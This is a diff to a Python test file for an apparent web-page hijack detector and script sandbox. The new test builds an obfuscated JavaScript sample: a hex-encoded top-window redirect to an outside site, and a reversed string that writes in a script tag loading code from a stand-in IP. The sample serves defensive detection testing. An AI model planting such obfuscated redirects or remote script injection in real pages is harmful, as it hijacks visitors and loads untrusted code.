@@ -177,9 +177,22 @@ def test_script_rendered_friend_links_are_not_run_nor_counted(sandbox: ScriptSan
     assert page.script_targets == [] and hijacks(page) == []
 
 
-def test_statically_read_scripts_are_not_sent_to_the_sandbox() -> None:
-    code = "var _0x1a2b=['" + _hex("http://www.yl8899.com/") + "'];top.location.href=_0x1a2b[0];"
-    assert suspicious(code) and sandbox_candidates([code]) == []
+def test_a_partly_readable_script_still_runs_in_the_sandbox(sandbox: ScriptSandbox) -> None:
+    # a readable redirect next to a payload written out from a reversed string
+    reversed_tag = '<script src="http://203.0.113.9/jq.js"></script>'[::-1]
+    code = (
+        "var _0x1a2b=['" + _hex("http://www.yl8899.com/") + "','" + _hex(reversed_tag) + "'];"
+        "function _0x3c4d(){top.location.href=_0x1a2b[0];}"
+        "document['write'](_0x1a2b[1]['split']('')['reverse']()['join'](''));"
+    )
+    assert [t.url for t in find_targets(code)] == ["http://www.yl8899.com/"]
+    assert sandbox_candidates(["var a=1;", code]) == ["var a=1;", code]
+    assert sandbox_candidates(["var a=1;"]) == []
+    page = page_from(f"<script>{code}</script>")
+    sandbox.apply(page)
+    assert {(t["url"], t["technique"], t.get("via")) for t in page.script_targets} == {
+        ("http://www.yl8899.com/", "location", None), ("http://203.0.113.9/jq.js", "document_write", "sandbox")
+    }
 
 
 # --- the sandbox -------------------------------------------------------------------------------
